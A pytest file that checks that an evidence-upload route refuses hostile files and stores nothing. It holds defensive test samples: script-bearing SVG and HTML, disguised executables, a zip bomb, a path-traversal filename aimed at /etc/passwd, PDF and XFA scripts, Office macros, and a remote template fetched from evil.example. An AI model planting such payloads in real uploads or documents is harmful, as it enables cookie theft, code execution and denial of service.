"""Hostile uploads through the real route: refused with a clear message, nothing stored."""

from __future__ import annotations

import io

import pytest
from sqlmodel import select

from app.models import Answer, Evidence, StoredFile
from tests import html
from tests.app import test_evidence_pdf_samples as pdf_samples
from tests.app import test_evidence_samples as samples
from tests.app.test_evidence_samples import docx, pdf, write_zip_bomb, xlsx

SVG_WITH_SCRIPT = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
HTML_WITH_SCRIPT = b"<!doctype html><html><body><script>fetch('/keluar')</script></body></html>"


@pytest.fixture
def upload(client, world, auth, catalogue):
    token = auth.login(client, "opd_a")
    code = next(r.question.code for r in catalogue.iter_questions() if "DINKES" in r.question.agencies)
    url = f"{world.base()}/isian/{code}/bukti"

    def send(name: str, content: bytes, media_type: str = "application/pdf", query: str = ""):
        return client.post(url + query, files={"files": (name, io.BytesIO(content), media_type)},
                           headers={"X-CSRF-Token": token, "HX-Request": "true"})

    return send


def _nothing_stored(db, app) -> None:
    assert db.exec(select(Evidence)).all() == []
    assert db.exec(select(StoredFile)).all() == []
    root = app.state.settings.evidence_dir
    assert not [p for p in root.rglob("*") if p.is_file()] if root.exists() else True


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("laporan.pdf", b"MZ\x90\x00\x03" + b"\x00" * 500, "program, bukan dokumen"),
        ("foto.pdf", b"\x7fELF\x02\x01\x01" + b"\x00" * 500, "program, bukan dokumen"),
        ("bukti.pdf", HTML_WITH_SCRIPT, "HTML/SVG tidak diterima"),
        ("grafik.svg", SVG_WITH_SCRIPT, "HTML/SVG tidak diterima"),
        ("kosong.pdf", b"", "Berkas kosong"),
    ],
)
def test_refused_with_a_message_and_nothing_stored(upload, db, app, name, content, expected):
    response = upload(name, content)
    assert response.status_code == 422
    assert expected in html.text_of(html.page(response))
    assert name in html.text_of(html.page(response))  # the message says which file
    _nothing_stored(db, app)


def test_oversized_file_is_refused_before_it_is_read(upload, db, app):
    limit = app.state.settings.max_upload_bytes
    response = upload("besar.pdf", b"%PDF-1.4\n" + b"0" * (limit + 200_000))
    assert response.status_code == 413
    assert "terlalu besar" in html.text_of(html.page(response))
    _nothing_stored(db, app)


def test_file_just_under_the_limit_but_over_after_streaming_is_refused(upload, db, app):
    # Envelope allowance lets this pass the Content-Length check; the store still counts every byte.
    limit = app.state.settings.max_upload_bytes
    response = upload("pas.pdf", b"%PDF-1.4\n" + b"0" * (limit + 10))
    assert response.status_code in (413, 422)
    assert "terlalu besar" in html.text_of(html.page(response)).lower()
    _nothing_stored(db, app)


def test_zip_bomb_named_xlsx_is_refused(upload, db, app, tmp_path):
    bomb = tmp_path / "data.xlsx"
    write_zip_bomb(bomb, megabytes=300)
    response = upload("rekap.xlsx", bomb.read_bytes(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    assert response.status_code == 422
    assert "tidak wajar" in html.text_of(html.page(response))
    _nothing_stored(db, app)


def test_traversal_name_is_reduced_to_a_plain_file_name(upload, db, app):
    response = upload("../../../etc/passwd.pdf", pdf())
    assert response.status_code == 200, response.text
    evidence = db.exec(select(Evidence)).one()
    assert evidence.filename == "passwd.pdf"
    root = app.state.settings.evidence_dir
    files = [p for p in root.rglob("*") if p.is_file()]
    assert len(files) == 1 and files[0].is_relative_to(root) and files[0].name == evidence.sha256


def test_a_lying_extension_is_corrected_from_the_content(upload, db):
    response = upload("laporan.exe", pdf())
    assert response.status_code == 200
    assert db.exec(select(Evidence)).one().filename == "laporan.pdf"


def test_office_files_are_accepted(upload, db):
    assert upload("rekap.xlsx", xlsx()).status_code == 200
    assert upload("notulen.docx", docx()).status_code == 200
    names = sorted(e.filename for e in db.exec(select(Evidence)))
    assert names == ["notulen.docx", "rekap.xlsx"]


def test_refused_upload_does_not_create_an_answer(upload, db):
    upload("x.pdf", b"")
    assert db.exec(select(Answer)).all() == []



# One sample per class of hidden active content (issue 19, item 11); sniff's unit tests cover the variants.
HIDDEN_ACTIVE_CONTENT = {
    "hex object stream": ("laporan.pdf", samples.pdf_with_object_stream(
        b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>", ["ASCIIHexDecode"]),
        "PDF ini berisi skrip", "This PDF contains scripts"),
    "xfa script": ("formulir.pdf", samples.pdf_with_xfa(b"<template><script>app.alert(1)</script></template>"),
                   "formulir interaktif (XFA) yang berisi skrip", "interactive (XFA) form with scripts"),
    "odt macros": ("notulen.odt", samples.opendocument(
        "application/vnd.oasis.opendocument.text", {"Basic/Standard/Module1.xml": b"<script:module/>"}),
        "berisi makro atau skrip", "contains macros or scripts"),
    "remote template": ("surat.docx", samples.docx({"word/_rels/settings.xml.rels": samples.relationships(
        ("attachedTemplate", "https://evil.example/t.dotm", "External"))}),
        "mengambil templat, objek, bingkai, atau data dari luar berkas", "fetches a template, object, frame or data"),
    "password": ("rahasia.pdf", samples.encrypted_pdf("buka", "AES-256"),
                 "dilindungi kata sandi", "protected with a password"),
    # The review of item 11: what the first screen let through.
    "untyped object stream": ("laporan.pdf", pdf_samples.untyped_object_streams(
        b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>", ["FlateDecode"]),
        "PDF ini berisi skrip", "This PDF contains scripts"),
    "doc macros": ("notulen.doc", samples.ole("WordDocument", "Macros", "VBA", "_VBA_PROJECT"),
                   "berisi makro atau skrip", "contains macros or scripts"),
    "embedded package": ("surat.docx", samples.docx({
        "word/_rels/document.xml.rels": samples.relationships(("oleObject", "embeddings/oleObject1.bin", None)),
        "word/embeddings/oleObject1.bin": samples.ole("\x01Ole10Native")}),
        "berisi objek atau kontrol tersisip", "contains an embedded object or control"),
    "oversized structure": ("rekap.pdf", pdf_samples.xref_stream_of(1_000_000),
                            "Susunan bagian dalam PDF ini tidak wajar", "inner structure of this PDF is abnormal"),
}


def _messages(response) -> list[str]:
    return html.texts(html.page(response), "//p[@class='error']")


@pytest.mark.parametrize("sample", sorted(HIDDEN_ACTIVE_CONTENT))
def test_hidden_active_content_is_refused_in_the_users_language(upload, db, app, sample):
    name, content, indonesian, english = HIDDEN_ACTIVE_CONTENT[sample]
    refused = upload(name, content)
    assert refused.status_code == 422
    [message] = _messages(refused)
    assert message.startswith(f"{name}: ") and indonesian in message
    [message] = _messages(upload(name, content, query="?lang=en"))
    assert message.startswith(f"{name}: ") and english in message
    _nothing_stored(db, app)


def test_benign_look_alikes_are_accepted(upload, db):
    hyperlink = samples.relationships(("hyperlink", "https://www.kemenpppa.go.id/", "External"))
    plain_objects = samples.pdf_with_object_stream(b"<< /S /URI /URI (https://kla.go.id) >>", ["ASCIIHexDecode"])
    for name, content in [("tautan.docx", docx({"word/_rels/document.xml.rels": hyperlink})),
                          ("catatan.odt", samples.opendocument("application/vnd.oasis.opendocument.text")),
                          ("laporan.pdf", plain_objects)]:
        assert upload(name, content).status_code == 200, name
    assert sorted(e.filename for e in db.exec(select(Evidence))) == ["catatan.odt", "laporan.pdf", "tautan.docx"]
